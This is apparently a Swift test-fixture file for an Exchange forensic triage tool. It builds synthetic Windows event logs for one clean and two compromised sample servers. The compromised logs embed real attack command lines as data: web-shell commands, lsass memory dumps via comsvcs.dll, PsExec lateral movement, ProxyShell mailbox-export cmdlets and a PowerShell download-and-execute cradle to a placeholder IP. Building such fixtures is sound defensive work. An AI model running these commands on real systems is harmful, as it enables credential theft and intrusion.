import ExTriageCore

/// The event logs of the two sample trees, written with `EvtxWriter` (Samples/README.md tells the
/// story). `SampleEventLogTests` checks that the committed files are exactly these bytes, and
/// rewrites them with `UPDATE_SAMPLES=1`.
public enum SampleEventLogs {
    public static let logsFolder = "Windows/System32/winevt/Logs"

    /// File name (under `logsFolder`) → bytes, for one sample tree.
    public static func files(for sample: String) -> [(name: String, bytes: [UInt8])] {
        switch sample {
        case "exchange2016-compromised": return compromised()
        case "exchange2019-clean": return clean()
        case "exchange2019-compromised": return laterChains()
        default: return []
        }
    }

    static func at(_ text: String) -> Timestamp { Timestamp(iso8601: text) ?? Timestamp(seconds: 0) }

    static let security = "Microsoft-Windows-Security-Auditing"
    static let sysmon = "Microsoft-Windows-Sysmon"
    static let scm = "Service Control Manager"

    static func process(_ time: String, host: String, image: String, command: String, parent: String, user: String = "EXCH01$",
                        logonID: String = "0x3e7") -> EvtxEvent {
        EvtxEvent(eventID: 4688, provider: security, channel: "Security", computer: host, time: at(time), level: 0,
                  data: [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", user), ("SubjectDomainName", "CORP"), ("SubjectLogonId", logonID),
                         ("NewProcessId", "0x1a2c"), ("NewProcessName", image), ("TokenElevationType", "%%1936"), ("ProcessId", "0x2f4"),
                         ("CommandLine", command), ("TargetUserSid", "S-1-0-0"), ("TargetUserName", "-"), ("TargetDomainName", "-"),
                         ("TargetLogonId", "0x0"), ("ParentProcessName", parent), ("MandatoryLabel", "S-1-16-16384")])
    }

    static func logon(_ time: String, host: String, type: String, user: String, domain: String = "CORP", process: String, package: String,
                      key: String, ip: String, workstation: String, logonID: String) -> EvtxEvent {
        EvtxEvent(eventID: 4624, provider: security, channel: "Security", computer: host, time: at(time), level: 0,
                  data: [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0"),
                         ("TargetUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"), ("TargetUserName", user),
                         ("TargetDomainName", domain), ("TargetLogonId", logonID), ("LogonType", type), ("LogonProcessName", process),
                         ("AuthenticationPackageName", package), ("WorkstationName", workstation), ("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
                         ("TransmittedServices", "-"), ("LmPackageName", package == "NTLM" ? "NTLM V2" : "-"), ("KeyLength", key),
                         ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", "49712"), ("ImpersonationLevel", "%%1833")])
    }

    static func serviceState(_ time: String, host: String, name: String, state: String) -> EvtxEvent {
        EvtxEvent(eventID: 7036, provider: scm, channel: "System", computer: host, time: at(time),
                  data: [("param1", name), ("param2", state), ("Binary", "")])
    }

    /// EXCH01, 2021-03-03: Chopper commands from w3wp, comsvcs MiniDump of lsass twice, PsExec in
    /// from WKS042 as Administrator, 7-Zip staging, PsExec onward to EXCH02, a cleared log.
    static func compromised() -> [(name: String, bytes: [UInt8])] {
        let host = "EXCH01.corp.local"
        let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
        let cmd = "C:\\Windows\\System32\\cmd.exe"
        let rundll = "C:\\Windows\\System32\\rundll32.exe"
        let securityEvents: [EvtxEvent] = [
            logon("2021-03-03T06:00:01.412Z", host: host, type: "5", user: "SYSTEM", domain: "NT AUTHORITY", process: "Advapi  ", package: "Negotiate",
                  key: "0", ip: "-", workstation: "-", logonID: "0x3e7"),
            logon("2021-03-03T06:30:12.080Z", host: host, type: "3", user: "EXCH01$", process: "Kerberos", package: "Kerberos",
                  key: "0", ip: "10.0.0.5", workstation: "-", logonID: "0x4b21a7"),
            process("2021-03-03T07:02:41.220Z", host: host, image: cmd,
                    command: "cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\\system_web\"&whoami&echo [S]&cd&echo [E]", parent: w3wp),
            process("2021-03-03T07:20:39.105Z", host: host, image: cmd,
                    command: "cmd /c cd /d \"C:\\inetpub\\wwwroot\\aspnet_client\"&rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\root\\lsass.dmp full&echo [S]&cd&echo [E]",
                    parent: w3wp),
            process("2021-03-03T07:20:39.190Z", host: host, image: rundll,
                    command: "rundll32.exe  C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\root\\lsass.dmp full", parent: cmd),
            logon("2021-03-03T07:45:02.531Z", host: host, type: "3", user: "Administrator", process: "NtLmSsp ", package: "NTLM",
                  key: "0", ip: "10.0.0.42", workstation: "WKS042", logonID: "0x5a3f21"),
            EvtxEvent(eventID: 5140, provider: security, channel: "Security", computer: host, time: at("2021-03-03T07:45:03.010Z"), level: 0,
                      data: [("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"), ("SubjectUserName", "Administrator"),
                             ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a3f21"), ("ObjectType", "File"), ("IpAddress", "10.0.0.42"),
                             ("IpPort", "49713"), ("ShareName", "\\\\*\\ADMIN$"), ("ShareLocalPath", "\\??\\C:\\Windows"), ("AccessMask", "0x1"),
                             ("AccessList", "%%4416")]),
            EvtxEvent(eventID: 5145, provider: security, channel: "Security", computer: host, time: at("2021-03-03T07:45:03.220Z"), level: 0,
                      data: [("SubjectUserName", "Administrator"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a3f21"),
                             ("ObjectType", "File"), ("IpAddress", "10.0.0.42"), ("IpPort", "49713"), ("ShareName", "\\\\*\\ADMIN$"),
                             ("ShareLocalPath", "\\??\\C:\\Windows"), ("RelativeTargetName", "PSEXESVC.exe"), ("AccessMask", "0x2"),
                             ("AccessList", "%%4417")]),
            EvtxEvent(eventID: 4697, provider: security, channel: "Security", computer: host, time: at("2021-03-03T07:45:04.001Z"), level: 0,
                      data: [("SubjectUserName", "Administrator"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a3f21"),
                             ("ServiceName", "PSEXESVC"), ("ServiceFileName", "%SystemRoot%\\PSEXESVC.exe"), ("ServiceType", "0x10"),
                             ("ServiceStartType", "3"), ("ServiceAccount", "LocalSystem")]),
            EvtxEvent(eventID: 5145, provider: security, channel: "Security", computer: host, time: at("2021-03-03T07:45:05.330Z"), level: 0,
                      data: [("SubjectUserName", "Administrator"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a3f21"),
                             ("ObjectType", "File"), ("IpAddress", "10.0.0.42"), ("IpPort", "49713"), ("ShareName", "\\\\*\\IPC$"),
                             ("ShareLocalPath", ""), ("RelativeTargetName", "PSEXESVC-WKS042-5012-stdin"), ("AccessMask", "0x12019f"),
                             ("AccessList", "%%1538")]),
            process("2021-03-03T07:45:06.004Z", host: host, image: "C:\\Windows\\PSEXESVC.exe", command: "C:\\Windows\\PSEXESVC.exe",
                    parent: "C:\\Windows\\System32\\services.exe"),
            process("2021-03-03T07:47:10.870Z", host: host, image: cmd,
                    command: "\"cmd.exe\" /c rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full",
                    parent: "C:\\Windows\\PSEXESVC.exe", user: "Administrator", logonID: "0x5a3f21"),
            process("2021-03-03T07:47:11.020Z", host: host, image: rundll,
                    command: "rundll32.exe  C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full", parent: cmd,
                    user: "Administrator", logonID: "0x5a3f21"),
            process("2021-03-03T07:50:30.441Z", host: host, image: "C:\\ProgramData\\7z.exe",
                    command: "C:\\ProgramData\\7z.exe a -t7z -pHx2021 C:\\ProgramData\\it.7z C:\\windows\\temp\\debug01.tmp", parent: cmd,
                    user: "Administrator", logonID: "0x5a3f21"),
            process("2021-03-03T07:52:40.118Z", host: host, image: "C:\\ProgramData\\PsExec64.exe",
                    command: "C:\\ProgramData\\PsExec64.exe -accepteula \\\\EXCH02 -u CORP\\Administrator -p ******** cmd /c \"whoami & hostname\"",
                    parent: cmd, user: "Administrator", logonID: "0x5a3f21"),
            EvtxEvent(eventID: 4648, provider: security, channel: "Security", computer: host, time: at("2021-03-03T07:52:40.502Z"), level: 0,
                      data: [("SubjectUserName", "Administrator"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5a3f21"),
                             ("TargetUserName", "Administrator"), ("TargetDomainName", "CORP"), ("TargetServerName", "EXCH02.corp.local"),
                             ("TargetInfo", "EXCH02.corp.local"), ("ProcessId", "0x1d30"), ("ProcessName", "C:\\ProgramData\\PsExec64.exe"),
                             ("IpAddress", "10.0.0.11"), ("IpPort", "445")]),
        ]
        let sysmonEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 1, provider: sysmon, channel: "Microsoft-Windows-Sysmon/Operational", computer: host, time: at("2021-03-03T07:47:11.021Z"),
                      data: [("RuleName", ""), ("UtcTime", "2021-03-03 07:47:11.021"), ("ProcessGuid", "{6d2f1a4e-3f2f-603f-4a01-000000000a00}"),
                             ("ProcessId", "6700"), ("Image", rundll), ("OriginalFileName", "RUNDLL32.EXE"),
                             ("CommandLine", "rundll32.exe  C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full"),
                             ("CurrentDirectory", "C:\\Windows\\system32\\"), ("User", "CORP\\Administrator"), ("IntegrityLevel", "System"),
                             ("ParentImage", cmd), ("ParentCommandLine", "\"cmd.exe\" /c rundll32.exe C:\\windows\\system32\\comsvcs.dll, MiniDump 624 C:\\windows\\temp\\debug01.tmp full")]),
            EvtxEvent(eventID: 10, provider: sysmon, channel: "Microsoft-Windows-Sysmon/Operational", computer: host, time: at("2021-03-03T07:47:11.402Z"),
                      data: [("RuleName", ""), ("UtcTime", "2021-03-03 07:47:11.402"), ("SourceProcessId", "6700"), ("SourceThreadId", "6704"),
                             ("SourceImage", rundll), ("TargetProcessId", "624"), ("TargetImage", "C:\\Windows\\system32\\lsass.exe"),
                             ("GrantedAccess", "0x1FFFFF"),
                             ("CallTrace", "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\KERNELBASE.dll+2730e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6a4c|C:\\Windows\\System32\\comsvcs.dll+3e4c1|C:\\Windows\\system32\\rundll32.exe+3c2f")]),
            EvtxEvent(eventID: 11, provider: sysmon, channel: "Microsoft-Windows-Sysmon/Operational", computer: host, time: at("2021-03-03T07:47:12.050Z"),
                      data: [("RuleName", ""), ("UtcTime", "2021-03-03 07:47:12.050"), ("ProcessId", "6700"), ("Image", rundll),
                             ("TargetFilename", "C:\\Windows\\Temp\\debug01.tmp"), ("CreationUtcTime", "2021-03-03 07:47:12.050")]),
        ]
        let systemEvents: [EvtxEvent] = [
            serviceState("2021-03-03T06:10:44.010Z", host: host, name: "Windows Modules Installer", state: "running"),
            EvtxEvent(eventID: 7045, provider: scm, channel: "System", computer: host, time: at("2021-03-03T07:45:04.020Z"),
                      data: [("ServiceName", "PSEXESVC"), ("ImagePath", "%SystemRoot%\\PSEXESVC.exe"), ("ServiceType", "user mode service"),
                             ("StartType", "demand start"), ("AccountName", "LocalSystem")]),
            serviceState("2021-03-03T07:45:04.300Z", host: host, name: "PSEXESVC", state: "running"),
            EvtxEvent(eventID: 104, provider: "Microsoft-Windows-Eventlog", channel: "System", computer: host, time: at("2021-03-03T07:53:10.600Z"),
                      data: [("SubjectUserName", "Administrator"), ("SubjectDomainName", "CORP"), ("Channel", "Windows PowerShell"), ("BackupPath", "")],
                      userDataRoot: "LogFileCleared"),
        ]
        let applicationEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 1001, provider: "MSExchange Unified Messaging", channel: "Application", computer: host, time: at("2021-03-03T05:00:02.000Z"),
                      data: [("", "The Microsoft Exchange Unified Messaging service has started.")]),
            EvtxEvent(eventID: 2080, provider: "MSExchange ADAccess", channel: "Application", computer: host, time: at("2021-03-03T06:15:00.000Z"),
                      data: [("", "w3wp.exe"), ("", "2476"), ("", "Process w3wp.exe () (PID=2476). Exchange Active Directory Provider has discovered the following servers")]),
        ]
        let managementEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 1, provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: host, time: at("2021-03-03T08:40:12.000Z"),
                      data: [("", "Get-Mailbox"), ("", "-ResultSize \"Unlimited\""), ("", "corp.local/Users/exadmin"), ("", "S-1-5-21-1004336348-1177238915-682003330-1107")]),
        ]
        return [
            ("Security.evtx", EvtxWriter.write(securityEvents, firstRecord: 48_211, dirty: true)),
            ("Microsoft-Windows-Sysmon%4Operational.evtx", EvtxWriter.write(sysmonEvents, firstRecord: 90_551, dirty: true)),
            ("System.evtx", EvtxWriter.write(systemEvents, firstRecord: 12_400, dirty: true)),
            ("Application.evtx", EvtxWriter.write(applicationEvents, firstRecord: 30_112, dirty: true)),
            ("MSExchange Management.evtx", EvtxWriter.write(managementEvents, firstRecord: 811, dirty: true)),
        ]
    }

    /// MBX02: the ProxyShell mailbox export of 2021-08-13 in MSExchange Management, and the shell
    /// CVE-2022-41082 started under the PowerShell app pool after the OWASSRF session of 2022-12-13.
    static func laterChains() -> [(name: String, bytes: [UInt8])] {
        let host = "MBX02.corp.local"
        let w3wp = "C:\\Windows\\System32\\inetsrv\\w3wp.exe"
        let cmd = "C:\\Windows\\System32\\cmd.exe"
        let securityEvents: [EvtxEvent] = [
            logon("2022-12-13T09:00:02.101Z", host: host, type: "5", user: "SYSTEM", domain: "NT AUTHORITY", process: "Advapi  ", package: "Negotiate",
                  key: "0", ip: "-", workstation: "-", logonID: "0x3e7"),
            process("2022-12-13T09:14:06.412Z", host: host, image: cmd, command: "cmd.exe /c whoami /all", parent: w3wp, user: "MBX02$"),
            process("2022-12-13T09:14:09.880Z", host: host, image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    command: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.99/p.ps1')\"",
                    parent: cmd, user: "MBX02$"),
        ]
        let system: [EvtxEvent] = [
            serviceState("2022-12-13T08:00:00.000Z", host: host, name: "Windows Update", state: "stopped"),
        ]
        // CU11 brought the Emergency Mitigation service: M1 (the CVE-2022-41040 URL rewrite) applied on 2022-10-01.
        let application: [EvtxEvent] = [
            EvtxEvent(eventID: 1001, provider: "MSExchange Unified Messaging", channel: "Application", computer: host, time: at("2022-10-01T02:00:05.000Z"),
                      data: [("", "The Microsoft Exchange Unified Messaging service has started.")]),
            EvtxEvent(eventID: 1005, provider: "MSExchange Mitigation Service", channel: "Application", computer: host, time: at("2022-10-01T02:14:40.000Z"),
                      data: [("", "Mitigation M1 applied successfully: URL rewrite rule blocking autodiscover.json requests with @ and PowerShell.")]),
        ]
        func cmdlet(_ time: String, _ name: String, _ parameters: String, _ caller: String) -> EvtxEvent {
            EvtxEvent(eventID: 1, provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: host, time: at(time),
                      data: [("", name), ("", parameters), ("", caller), ("", "S-1-5-21-1004336348-1177238915-682003330-500")])
        }
        let managementEvents: [EvtxEvent] = [
            cmdlet("2021-08-13T11:21:31.207Z", "New-ManagementRoleAssignment", "-Role \"Mailbox Import Export\" -User \"administrator@corp.local\"",
                   "corp.local/Users/Administrator"),
            cmdlet("2021-08-13T11:22:05.844Z", "New-MailboxExportRequest",
                   "-Mailbox \"administrator@corp.local\" -IncludeFolders \"#Drafts#\" -ContentFilter \"Subject -eq 'bzxrq'\" -ExcludeDumpster \"True\" -FilePath \"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\bzxrq.aspx\"",
                   "corp.local/Users/Administrator"),
            cmdlet("2021-08-13T11:23:12.060Z", "Remove-MailboxExportRequest", "-Identity \"administrator@corp.local\\MailboxExport\" -Confirm \"False\"",
                   "corp.local/Users/Administrator"),
            // The rogue transport agent of agents.config, installed over the same session.
            cmdlet("2021-08-13T11:23:40.518Z", "Install-TransportAgent",
                   "-Name \"Transport Compliance Agent\" -TransportAgentFactory \"Microsoft.Exchange.Transport.Agent.Compliance.ComplianceAgentFactory\" -AssemblyPath \"C:\\Windows\\ServiceProfiles\\NetworkService\\AppData\\Local\\Microsoft.Exchange.Transport.Agent.Compliance.dll\"",
                   "corp.local/Users/Administrator"),
            cmdlet("2022-12-13T10:05:52.000Z", "Get-Mailbox", "-Identity \"jdoe\"", "corp.local/Users/exadmin"),
        ]
        // IIS-Configuration/Operational 29: the rogue native module of applicationHost.config added on 2022-12-13
        // after the OWASSRF shell, and the URL Rewrite module an administrator added in 2021 (a look-alike).
        func change(_ time: String, _ path: String, _ old: String, _ new: String) -> EvtxEvent {
            EvtxEvent(eventID: 29, provider: "Microsoft-Windows-IIS-Configuration", channel: "Microsoft-IIS-Configuration/Operational", computer: host,
                      time: at(time), data: [("EffectiveLocation", "MACHINE/WEBROOT/APPHOST"), ("Configuration", path), ("OldValue", old), ("NewValue", new)])
        }
        let iisConfiguration: [EvtxEvent] = [
            change("2021-09-20T14:02:11.000Z", "/system.webServer/globalModules/add", "", "RewriteModule"),
            change("2021-09-20T14:02:11.000Z", "/system.webServer/globalModules/add[@name=\"RewriteModule\"]/@image", "",
                   "%SystemRoot%\\system32\\inetsrv\\rewrite.dll"),
            change("2022-12-13T09:16:30.000Z", "/system.webServer/globalModules/add", "", "IsapiCacheModule"),
            change("2022-12-13T09:16:30.000Z", "/system.webServer/globalModules/add[@name=\"IsapiCacheModule\"]/@image", "",
                   "C:\\ProgramData\\Microsoft\\Windows\\Caches\\iiscache.dll"),
        ]
        return [
            ("Security.evtx", EvtxWriter.write(securityEvents, firstRecord: 310_414, dirty: true)),
            ("System.evtx", EvtxWriter.write(system, firstRecord: 61_002, dirty: true)),
            ("Application.evtx", EvtxWriter.write(application, firstRecord: 90_113, dirty: true)),
            ("MSExchange Management.evtx", EvtxWriter.write(managementEvents, firstRecord: 2_201, dirty: true)),
            ("Microsoft-IIS-Configuration%4Operational.evtx", EvtxWriter.write(iisConfiguration, firstRecord: 412, dirty: true)),
        ]
    }

    /// EXCH19, 2022-12-07: ordinary logons, a compile under w3wp, an Exchange service install, admin cmdlets.
    static func clean() -> [(name: String, bytes: [UInt8])] {
        let host = "EXCH19.corp.local"
        let securityEvents: [EvtxEvent] = [
            logon("2022-12-07T08:00:03.101Z", host: host, type: "5", user: "SYSTEM", domain: "NT AUTHORITY", process: "Advapi  ", package: "Negotiate",
                  key: "0", ip: "-", workstation: "-", logonID: "0x3e7"),
            logon("2022-12-07T08:05:40.200Z", host: host, type: "3", user: "EXCH19$", process: "Kerberos", package: "Kerberos",
                  key: "0", ip: "10.0.0.5", workstation: "-", logonID: "0x3a11f0"),
            logon("2022-12-07T09:12:18.733Z", host: host, type: "3", user: "jdoe", process: "NtLmSsp ", package: "NTLM",
                  key: "128", ip: "10.0.0.77", workstation: "WKS077", logonID: "0x3b0042"),
            process("2022-12-07T08:01:10.500Z", host: host, image: "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
                    command: "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"MSExchangeOWAAppPool\" -v \"v4.0\" -c \"C:\\Exchange\\V15\\bin\\GenericAppPoolConfigWithGCServerEnabledFalse.config\"",
                    parent: "C:\\Windows\\System32\\svchost.exe", user: "EXCH19$"),
            process("2022-12-07T08:01:15.010Z", host: host, image: "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe",
                    command: "\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe\" /noconfig /fullpaths @\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\owa\\b1c5\\x.cmdline\"",
                    parent: "C:\\Windows\\System32\\inetsrv\\w3wp.exe", user: "EXCH19$"),
            EvtxEvent(eventID: 4648, provider: security, channel: "Security", computer: host, time: at("2022-12-07T08:06:00.000Z"), level: 0,
                      data: [("SubjectUserName", "EXCH19$"), ("SubjectDomainName", "CORP"), ("TargetUserName", "HealthMailbox7b1c"),
                             ("TargetDomainName", "CORP"), ("TargetServerName", "localhost"), ("ProcessName", "C:\\Windows\\System32\\lsass.exe"),
                             ("IpAddress", "-"), ("IpPort", "-")]),
        ]
        let systemEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 7045, provider: scm, channel: "System", computer: host, time: at("2022-12-06T22:14:05.000Z"),
                      data: [("ServiceName", "MSExchangeDiagnostics"), ("ImagePath", "\"C:\\Exchange\\V15\\Bin\\Microsoft.Exchange.Diagnostics.Service.exe\""),
                             ("ServiceType", "user mode service"), ("StartType", "auto start"), ("AccountName", "LocalSystem")]),
            serviceState("2022-12-06T22:14:09.000Z", host: host, name: "Microsoft Exchange Diagnostics", state: "running"),
            serviceState("2022-12-07T08:00:00.000Z", host: host, name: "Windows Update", state: "stopped"),
        ]
        let applicationEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 1001, provider: "MSExchange Unified Messaging", channel: "Application", computer: host, time: at("2022-12-07T07:59:58.000Z"),
                      data: [("", "The Microsoft Exchange Unified Messaging service has started.")]),
        ]
        let managementEvents: [EvtxEvent] = [
            EvtxEvent(eventID: 1, provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: host, time: at("2022-12-07T10:21:44.000Z"),
                      data: [("", "Set-OabVirtualDirectory"), ("", "-Identity \"EXCH19\\OAB (Default Web Site)\" -ExternalUrl \"https://mail.corp.example/OAB\""),
                             ("", "corp.local/Users/exadmin"), ("", "S-1-5-21-1004336348-1177238915-682003330-1107")]),
            EvtxEvent(eventID: 1, provider: "MSExchange CmdletLogs", channel: "MSExchange Management", computer: host, time: at("2022-12-07T10:25:02.000Z"),
                      data: [("", "Get-Mailbox"), ("", "-Identity \"jdoe\""), ("", "corp.local/Users/exadmin"), ("", "S-1-5-21-1004336348-1177238915-682003330-1107")]),
        ]
        return [
            ("Security.evtx", EvtxWriter.write(securityEvents, firstRecord: 221_904, dirty: true)),
            ("System.evtx", EvtxWriter.write(systemEvents, firstRecord: 40_017, dirty: true)),
            ("Application.evtx", EvtxWriter.write(applicationEvents, firstRecord: 77_310, dirty: true)),
            ("MSExchange Management.evtx", EvtxWriter.write(managementEvents, firstRecord: 5_120, dirty: true)),
        ]
    }
}
